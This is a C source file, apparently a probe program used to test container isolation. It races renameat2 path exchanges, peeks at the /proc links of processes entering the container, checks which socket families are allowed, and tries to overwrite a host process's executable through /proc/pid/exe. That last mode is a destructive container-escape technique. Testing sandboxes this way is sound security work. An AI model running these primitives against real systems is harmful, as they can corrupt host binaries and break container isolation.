/* What a shell cannot try from inside of a container:
     probe exchange A B   exchanges two names over and over, until it is killed
     probe overwrite      holds the program of a process that is not busybox, and writes to it once it may
     probe peek           tells what it sees of a process that has not become a program of the container yet
     probe socket FAMILY  prints 0 or the error number */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int exchange(const char *a, const char *b) {
    for (;;) {
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
    }
}

/* Calls back for every process but this one whose program is another file than ours. */
static int foreign(int (*found)(int pid)) {
    char path[64];
    struct stat ours, theirs;
    if (stat("/bin/busybox", &ours) != 0) {
        return 0;
    }
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int done = 0;
    while (!done && proc != NULL && (entry = readdir(proc)) != NULL) {
        int pid = atoi(entry->d_name);
        if (pid > 1 && pid != getpid()) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int known = stat(path, &theirs) == 0 && theirs.st_dev == ours.st_dev && theirs.st_ino == ours.st_ino;
            done = !known && found(pid);
        }
    }
    if (proc != NULL) {
        closedir(proc);
    }
    return done;
}

static int held = -1;

static int hold(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    held = open(path, O_RDONLY | O_CLOEXEC);
    return held >= 0;
}

static int overwrite(void) {
    char path[64];
    time_t end = time(NULL) + 3;
    while (!foreign(hold)) {
        if (time(NULL) > end) {
            puts("nothing to hold");
            return 0;
        }
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int error = ETXTBSY;
    for (int i = 0; i < 20000 && error == ETXTBSY; i++) {
        int writable = open(path, O_WRONLY);
        if (writable >= 0) {
            printf("wrote %zd\n", pwrite(writable, "gone", 4, 0));
            return 0;
        }
        error = errno;
        usleep(100);
    }
    printf("held, and not writable: %s\n", strerror(error));
    return 0;
}

static int look(int pid) {
    char path[300], target[300];
    const char *names[] = {"root", "cwd", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length >= 0) {
            target[length] = 0;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            char program[300];
            ssize_t size = readlink(path, program, sizeof program - 1);
            program[size < 0 ? 0 : size] = 0;
            /* Of one that ends, the root is seen and no program; one of /bin has become the container's. */
            if (size > 0 && strncmp(program, "/bin/", 5) != 0) {
                printf("saw %s of a process %s: %s\n", names[i], program, target);
                fflush(stdout);
                return 1;
            }
        }
    }
    return 0;
}

static int peek(void) {
    time_t end = time(NULL) + 4;
    while (time(NULL) < end && !foreign(look)) {
        continue;
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "exchange") == 0) {
        return exchange(argv[2], argv[3]);
    } else if (argc == 2 && strcmp(argv[1], "overwrite") == 0) {
        return overwrite();
    } else if (argc == 2 && strcmp(argv[1], "peek") == 0) {
        return peek();
    } else if (argc == 3 && strcmp(argv[1], "socket") == 0) {
        printf("%d\n", socket(atoi(argv[2]), SOCK_SEQPACKET, 0) < 0 ? errno : 0);
        return 0;
    }
    return 2;
}
